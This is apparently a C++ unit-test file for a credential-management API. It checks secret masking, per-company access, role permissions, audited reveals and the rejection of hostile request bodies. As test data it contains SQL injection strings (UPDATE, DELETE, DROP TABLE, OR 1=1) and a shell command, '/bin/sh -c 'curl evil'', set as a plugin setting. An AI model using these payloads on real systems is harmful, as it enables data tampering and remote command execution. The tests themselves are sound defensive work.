// The credential routes: secrets never leave masked but through the audited
// reveal (editors), members see only their companies' credentials and types,
// editors create and change them, hostile bodies.
#include <boost/test/unit_test.hpp>

#include "store/AuditRepository.h"
#include "store/CredentialRepository.h"

#include "ApiFixture.h"
#include "Fixtures.h"
#include "api/CredentialRoutes.h"
#include "catalog/CredentialCatalog.h"
#include "common/Exceptions.h"
#include "domain/ActorScope.h"
#include "manifest/ManifestValidator.h"
#include "manifest/PrototypeCodec.h"

using namespace MultiFlexi;
using MultiFlexi::Testing::ApiFixture;
using MultiFlexi::Testing::thrown;

namespace {
struct CredentialApi : ApiFixture {
  std::vector<ApiRoute> routes = credentialRoutes();
  int64_t acmeType = 0, betaType = 0, acmeCredential = 0, betaCredential = 0;

  CredentialApi() {
    const std::string f =
        Testing::fixture("multiflexi/credential-prototypes/VitexSoftware__php-vitexsoftware-multiflexi-core__test.credential-type.json");
    const int64_t prototype =
        catalog->credentials().prototypes().save(prototypeFromJson(ManifestValidator::readJson(f), f)).id;
    acmeType = type(acme, prototype);
    betaType = type(beta, prototype);
    acmeCredential = credential(acme, acmeType);
    betaCredential = credential(beta, betaType);
  }
  int64_t type(int64_t company, int64_t prototype) {
    CredentialType t;
    t.companyId = company;
    t.name = "sql";
    t.prototypeId = prototype;
    return catalog->credentials().createType(t);
  }
  int64_t credential(int64_t company, int64_t typeId) {
    Credential c;
    c.companyId = company;
    c.typeId = typeId;
    c.name = "db";
    c.values = {{"DATABASE_PASSWORD", "pw-secret-1"}, {"DATABASE_USER", "app"}};
    return catalog->credentials().createCredential(c);
  }
  ApiResponse get(const Caller& caller, const std::string& path, const std::string& param, int64_t id) {
    return call(routes, "GET", path, request(caller, {{param, std::to_string(id)}}));
  }
  ApiResponse post(const Caller& caller, const std::string& path, const std::string& param, int64_t id,
                   const OrderedJson& body) {
    return call(routes, "POST", path, request(caller, {{param, std::to_string(id)}}, {}, body));
  }
  ApiResponse create(std::optional<Caller> caller, const std::string& path, const OrderedJson& body) {
    return call(routes, "POST", path, request(std::move(caller), {}, {}, body));
  }
  ApiResponse reveal(const Caller& caller, int64_t id) {
    const ActorScope actor(caller);  // as the router does: the audit trail names the caller
    return get(caller, "/credential/{credentialId}/reveal", "credentialId", id);
  }
  /// The audit events with `action`, newest first.
  std::vector<AuditEvent> events(const std::string& action) {
    std::vector<AuditEvent> out;
    for (const AuditEvent& e : AuditRepository(catalog->database()).list(1000))
      if (e.action == action) out.push_back(e);
    return out;
  }
  OrderedJson newCredential(int64_t typeId) const {
    return {{"name", "new db"},
            {"credential_type_id", typeId},
            {"values", {{"DATABASE_PASSWORD", "pw-secret-new"}, {"DATABASE_USER", "svc"}}}};
  }
};
}  // namespace

BOOST_AUTO_TEST_SUITE(credential_routes)

BOOST_FIXTURE_TEST_CASE(credentials_are_listed_and_shown_with_secrets_masked, CredentialApi) {
  const ApiResponse all = call(routes, "GET", "/credentials", request(admin()));
  BOOST_TEST(all.body.size() == 2u);
  BOOST_TEST(all.body.dump().find("pw-secret-1") == std::string::npos);
  BOOST_TEST(all.body[0]["values"]["DATABASE_USER"] == "app");
  conforms("GET", "/credentials.{suffix}", 200, all.body);
  const ApiResponse one = get(admin(), "/credential/{credentialId}", "credentialId", acmeCredential);
  BOOST_TEST(one.body.dump().find("pw-secret-1") == std::string::npos);
  conforms("GET", "/credential/{credentialId}.{suffix}", 200, one.body);
  const ApiResponse types = call(routes, "GET", "/credential_types", request(admin(), {}, {{"limit", "1"}}));
  BOOST_TEST(types.body.size() == 1u);
  conforms("GET", "/credential_types.{suffix}", 200, types.body);
  conforms("GET", "/credential_type/{credentialTypeID}.{suffix}", 200,
           get(admin(), "/credential_type/{credentialTypeID}", "credentialTypeID", betaType).body);
}

BOOST_FIXTURE_TEST_CASE(a_member_sees_only_its_companys_credentials, CredentialApi) {
  const std::string before = digest();
  const Caller editor = member(acme, CompanyRole::Editor);
  const ApiResponse mine = call(routes, "GET", "/credentials", request(editor));
  BOOST_TEST(mine.body.size() == 1u);
  BOOST_TEST(mine.body[0]["id"] == acmeCredential);
  BOOST_TEST(call(routes, "GET", "/credential_types", request(editor)).body.size() == 1u);
  const std::string words = "no credential with id " + std::to_string(betaCredential);
  BOOST_TEST(thrown<NotFoundException>([&] { get(editor, "/credential/{credentialId}", "credentialId", betaCredential); })
                 .message() == words);
  BOOST_TEST(thrown<NotFoundException>([&] {
               post(editor, "/credential/{credentialId}", "credentialId", betaCredential, {{"name", "x"}});
             }).message() == words);
  BOOST_TEST(thrown<NotFoundException>([&] { get(editor, "/credential/{credentialId}", "credentialId", 9999); })
                 .message() == "no credential with id 9999");
  BOOST_TEST(thrown<NotFoundException>([&] {
               get(editor, "/credential_type/{credentialTypeID}", "credentialTypeID", betaType);
             }).message() == "no credential type with id " + std::to_string(betaType));
  BOOST_CHECK_THROW(post(member(acme, CompanyRole::Operator), "/credential/{credentialId}", "credentialId",
                         acmeCredential, {{"name", "x"}}),
                    ForbiddenException);
  BOOST_CHECK_THROW(post(member(acme, CompanyRole::Viewer), "/credential_type/{credentialTypeID}", "credentialTypeID",
                         acmeType, {{"name", "x"}}),
                    ForbiddenException);
  BOOST_TEST(digest() == before);
}

BOOST_FIXTURE_TEST_CASE(an_editor_changes_a_credential_and_never_sees_the_secret, CredentialApi) {
  const Caller editor = member(acme, CompanyRole::Editor);
  const ApiResponse changed = post(editor, "/credential/{credentialId}", "credentialId", acmeCredential,
                                   {{"name", "main db"}, {"values", {{"DATABASE_PASSWORD", "pw-secret-2"}}}});
  BOOST_TEST(changed.status == 201);
  BOOST_TEST(changed.body["name"] == "main db");
  BOOST_TEST(changed.body.dump().find("pw-secret-2") == std::string::npos);
  conforms("POST", "/credential/{credentialId}.{suffix}", 201, changed.body);
  BOOST_TEST(catalog->credentials().credential(acmeCredential).values.at("DATABASE_PASSWORD") == "pw-secret-2");
  const ApiResponse type =
      post(editor, "/credential_type/{credentialTypeID}", "credentialTypeID", acmeType, {{"name", "sql main"}});
  BOOST_TEST(type.body["name"] == "sql main");
  conforms("POST", "/credential_type/{credentialTypeID}.{suffix}", 201, type.body);
}

BOOST_FIXTURE_TEST_CASE(hostile_credential_bodies_name_the_member_and_change_nothing, CredentialApi) {
  const std::string before = digest();
  const std::string sql = "'; UPDATE credential_value SET value = 'x'; --";
  auto field = [&](const OrderedJson& body) {
    return thrown<ValidationException>([&] {
             post(admin(), "/credential/{credentialId}", "credentialId", acmeCredential, body);
           }).field();
  };
  BOOST_TEST(field({{"name", 5}}) == "name");
  BOOST_TEST(field({{"name", std::string("a\0b", 3)}}) == "name");
  BOOST_TEST(field({{"values", "x"}}) == "values");
  BOOST_TEST(field({{"values", {{"DATABASE_PORT", OrderedJson::array()}}}}) == "values.DATABASE_PORT");
  BOOST_TEST(field({{"unset", "DATABASE_USER"}}) == "unset");
  BOOST_TEST(field({{"unset", {1}}}) == "unset");
  BOOST_TEST(field({{"value", sql}}) == "value");
  BOOST_TEST(field({{"values", {{sql, "1"}}}}).rfind("fields.", 0) == 0);
  BOOST_TEST(thrown<ValidationException>([&] {
               post(admin(), "/credential_type/{credentialTypeID}", "credentialTypeID", acmeType, {{"settings", sql}});
             }).field() == "settings");
  BOOST_TEST(digest() == before);
}

BOOST_FIXTURE_TEST_CASE(a_plugin_credential_type_acts_on_the_host_and_only_an_admin_changes_it, CredentialApi) {
  // exec's COMMAND runs on the executor host: a company's editor must not set it.
  CredentialType t;
  t.companyId = acme;
  t.name = "helper";
  t.pluginType = "exec";
  t.provides = "exec";
  t.settings = {{"COMMAND", "/usr/bin/true"}};
  const int64_t plugin = CredentialRepository(catalog->database()).createType(t);
  Credential c;
  c.companyId = acme;
  c.typeId = plugin;
  c.name = "via helper";
  const int64_t viaPlugin = CredentialRepository(catalog->database()).create(c);
  const Caller editor = member(acme, CompanyRole::Editor);
  const auto type = thrown<ForbiddenException>([&] {
    post(editor, "/credential_type/{credentialTypeID}", "credentialTypeID", plugin,
         {{"settings", {{"COMMAND", "/bin/sh -c 'curl evil'"}}}});
  });
  BOOST_TEST(type.field() == "credentialTypeID");
  const auto credential = thrown<ForbiddenException>([&] {
    post(editor, "/credential/{credentialId}", "credentialId", viaPlugin, {{"name", "renamed"}});
  });
  BOOST_TEST(credential.field() == "credentialId");
  BOOST_TEST(catalog->credentials().type(plugin).settings.at("COMMAND") == "/usr/bin/true");
  BOOST_TEST(catalog->credentials().credential(viaPlugin).name == "via helper");
}

BOOST_FIXTURE_TEST_CASE(an_editor_creates_a_credential_and_its_secret_never_comes_back, CredentialApi) {
  const Caller editor = member(acme, CompanyRole::Editor);
  OrderedJson body = newCredential(acmeType);
  body["company_id"] = acme;
  const ApiResponse made = create(editor, "/credential/", body);
  BOOST_TEST(made.status == 201);
  BOOST_TEST(made.body["name"] == "new db");
  BOOST_TEST(made.body["company_id"] == acme);
  BOOST_TEST(made.body["values"]["DATABASE_USER"] == "svc");
  BOOST_TEST(made.body.dump().find("pw-secret-new") == std::string::npos);
  const int64_t id = made.body["id"];
  BOOST_TEST(made.headers.at("Location") == std::string(kApiBasePath) + "/credential/" + std::to_string(id));
  BOOST_TEST(catalog->credentials().credential(id).values.at("DATABASE_PASSWORD") == "pw-secret-new");
  // No other answer shows it either.
  for (const ApiResponse& r : {call(routes, "GET", "/credentials", request(editor)),
                               get(editor, "/credential/{credentialId}", "credentialId", id),
                               post(editor, "/credential/{credentialId}", "credentialId", id, {{"name", "renamed"}})})
    BOOST_TEST(r.body.dump().find("pw-secret-new") == std::string::npos);
  OrderedJson byAdmin = newCredential(betaType);
  byAdmin["name"] = "by admin";
  BOOST_TEST(create(admin(), "/credential/", byAdmin).body["company_id"] == beta);
}

BOOST_FIXTURE_TEST_CASE(creating_a_credential_needs_the_editor_of_the_types_company, CredentialApi) {
  const std::string before = digest();
  const std::string words = "no credential type with id " + std::to_string(betaType);
  // Another company's type is a missing one, word for word.
  BOOST_TEST(thrown<NotFoundException>([&] {
               create(member(acme, CompanyRole::Editor), "/credential/", newCredential(betaType));
             }).message() == words);
  BOOST_TEST(thrown<NotFoundException>([&] {
               create(member(acme, CompanyRole::Editor), "/credential/", newCredential(999999));
             }).message() == "no credential type with id 999999");
  for (CompanyRole role : {CompanyRole::Viewer, CompanyRole::Operator})
    BOOST_TEST(thrown<ForbiddenException>([&] {
                 create(member(acme, role), "/credential/", newCredential(acmeType));
               }).field() == "credential_type_id");
  BOOST_CHECK_THROW(create(std::nullopt, "/credential/", newCredential(acmeType)), UnauthorizedException);
  OrderedJson moved = newCredential(acmeType);
  moved["company_id"] = beta;  // the type fixes the company
  BOOST_TEST(thrown<ValidationException>([&] { create(admin(), "/credential/", moved); }).field() == "company_id");
  BOOST_TEST(digest() == before);
}

BOOST_FIXTURE_TEST_CASE(hostile_create_bodies_name_the_member_and_change_nothing, CredentialApi) {
  const std::string before = digest();
  const std::string sql = "x'); DELETE FROM credential; --";
  auto field = [&](const std::string& path, const OrderedJson& body) {
    return thrown<ValidationException>([&] { create(admin(), path, body); }).field();
  };
  auto with = [&](const std::string& member, const OrderedJson& value) {
    OrderedJson body = newCredential(acmeType);
    body[member] = value;
    return body;
  };
  BOOST_TEST(field("/credential/", OrderedJson::array()) == "body");
  BOOST_TEST(field("/credential/", {{"name", "x"}}) == "credential_type_id");
  BOOST_TEST(field("/credential/", with("credential_type_id", "1; DROP TABLE credential")) == "credential_type_id");
  BOOST_TEST(field("/credential/", with("credential_type_id", -1)) == "credential_type_id");
  BOOST_TEST(field("/credential/", with("credential_type_id", 1e300)) == "credential_type_id");
  BOOST_TEST(field("/credential/", with("name", 5)) == "name");
  BOOST_TEST(field("/credential/", with("name", "")) == "name");
  BOOST_TEST(field("/credential/", with("name", std::string("a\0b", 3))) == "name");
  BOOST_TEST(field("/credential/", with("name", std::string(70000, 'n'))) == "name");
  BOOST_TEST(field("/credential/", with("values", OrderedJson::array())) == "values");
  BOOST_TEST(field("/credential/", with("values", {{"DATABASE_USER", std::string("a\0b", 3)}})) ==
             "values.DATABASE_USER");
  BOOST_TEST(field("/credential/", with("values", {{sql, "1"}})).rfind("fields.", 0) == 0);
  BOOST_TEST(field("/credential/", with("secret", "x")) == "secret");
  BOOST_TEST(field("/credential_type/", {{"name", "t"}, {"company_id", acme}, {"prototype_id", "SQL"}}) ==
             "prototype_id");
  BOOST_TEST(field("/credential_type/", {{"name", "t"}, {"company_id", "acme"}}) == "company_id");
  BOOST_TEST(field("/credential_type/", {{"name", sql}, {"company_id", acme}, {"settings", sql}}) == "settings");
  BOOST_TEST(field("/credential_type/", {{"name", "t"}, {"company_id", acme}, {"values", OrderedJson::object()}}) ==
             "values");
  BOOST_TEST(digest() == before);
}

BOOST_FIXTURE_TEST_CASE(an_editor_creates_a_credential_type_of_a_prototype_and_only_an_admin_of_a_plugin,
                        CredentialApi) {
  const int64_t prototype = *catalog->credentials().type(acmeType).prototypeId;
  const Caller editor = member(acme, CompanyRole::Editor);
  const ApiResponse made = create(editor, "/credential_type/",
                                  {{"name", "sql two"},
                                   {"company_id", acme},
                                   {"prototype_id", prototype},
                                   {"settings", {{"DATABASE_PASSWORD", "pw-setting-1"}}}});
  BOOST_TEST(made.status == 201);
  BOOST_TEST(made.body["company_id"] == acme);
  BOOST_TEST(made.body["provides"] == "SQL");
  BOOST_TEST(made.body.dump().find("pw-setting-1") == std::string::npos);
  conforms("GET", "/credential_type/{credentialTypeID}.{suffix}", 200, made.body);

  const std::string before = digest();
  BOOST_TEST(thrown<ForbiddenException>([&] {
               create(editor, "/credential_type/", {{"name", "helper"}, {"company_id", acme}, {"plugin", "exec"},
                                                    {"settings", {{"COMMAND", "/bin/sh -c 'curl evil'"}}}});
             }).field() == "plugin");
  BOOST_TEST(thrown<ForbiddenException>([&] {
               create(member(acme, CompanyRole::Operator), "/credential_type/",
                      {{"name", "t"}, {"company_id", acme}, {"prototype_id", prototype}});
             }).field() == "company_id");
  BOOST_TEST(thrown<NotFoundException>([&] {
               create(editor, "/credential_type/", {{"name", "t"}, {"company_id", beta}, {"prototype_id", prototype}});
             }).message() == "no company with id " + std::to_string(beta));
  auto field = [&](const OrderedJson& body) {
    return thrown<ValidationException>([&] { create(editor, "/credential_type/", body); }).field();
  };
  BOOST_TEST(field({{"name", "t"}, {"company_id", acme}}) == "prototype_id");
  BOOST_TEST(field({{"name", "t"}, {"company_id", acme}, {"prototype_id", prototype}, {"plugin", "exec"}}) ==
             "prototype_id");
  BOOST_TEST(field({{"name", "t"}, {"company_id", acme}, {"prototype_id", 999999}}) == "prototype_id");
  BOOST_TEST(field({{"company_id", acme}, {"prototype_id", prototype}}) == "name");
  BOOST_TEST(digest() == before);
  const ApiResponse plugin = create(admin(), "/credential_type/", {{"name", "env"}, {"company_id", acme},
                                                                  {"plugin", "envfile"},
                                                                  {"settings", {{"ENV_FILE_PATH", "/dev/null"}}}});
  BOOST_TEST(plugin.body["plugin"] == "envfile");
}

BOOST_FIXTURE_TEST_CASE(an_editor_reveals_a_credential_once_audited_and_never_cached, CredentialApi) {
  const Caller editor = member(acme, CompanyRole::Editor, "erin");
  const ApiResponse shown = reveal(editor, acmeCredential);
  BOOST_TEST(shown.status == 200);
  BOOST_TEST(shown.body["values"]["DATABASE_PASSWORD"] == "pw-secret-1");
  BOOST_TEST(shown.body["secret_fields"][0] == "DATABASE_PASSWORD");
  BOOST_TEST(shown.headers.at("Cache-Control") == "no-store");
  const auto revealed = events("credential.reveal");
  BOOST_REQUIRE_EQUAL(revealed.size(), 1u);
  BOOST_TEST(revealed[0].actor == "erin");
  BOOST_TEST(revealed[0].subject == "credential " + std::to_string(acmeCredential));
  BOOST_TEST(revealed[0].companyId.value_or(0) == acme);
  BOOST_TEST(revealed[0].detail.value_or("").find("pw-secret-1") == std::string::npos);
  BOOST_TEST(reveal(admin(), betaCredential).body["values"]["DATABASE_PASSWORD"] == "pw-secret-1");
  BOOST_TEST(events("credential.reveal").size() == 2u);
}

BOOST_FIXTURE_TEST_CASE(a_refused_reveal_shows_nothing_and_audits_nothing, CredentialApi) {
  for (CompanyRole role : {CompanyRole::Viewer, CompanyRole::Operator})
    BOOST_TEST(thrown<ForbiddenException>([&] { reveal(member(acme, role), acmeCredential); }).field() ==
               "credentialId");
  // Another company's credential is a missing one, word for word.
  const Caller editor = member(acme, CompanyRole::Editor);
  BOOST_TEST(thrown<NotFoundException>([&] { reveal(editor, betaCredential); }).message() ==
             "no credential with id " + std::to_string(betaCredential));
  BOOST_TEST(thrown<NotFoundException>([&] { reveal(editor, 999999); }).message() == "no credential with id 999999");
  BOOST_CHECK_THROW(get(Caller(), "/credential/{credentialId}/reveal", "credentialId", acmeCredential),
                    NotFoundException);  // a user of no company
  BOOST_CHECK_THROW(call(routes, "GET", "/credential/{credentialId}/reveal",
                         request(std::nullopt, {{"credentialId", std::to_string(acmeCredential)}})),
                    UnauthorizedException);
  BOOST_TEST(thrown<ValidationException>([&] {
               call(routes, "GET", "/credential/{credentialId}/reveal",
                    request(admin(), {{"credentialId", "1' OR 1=1"}}));
             }).field() == "credentialId");
  BOOST_TEST(events("credential.reveal").empty());
}

BOOST_AUTO_TEST_SUITE_END()
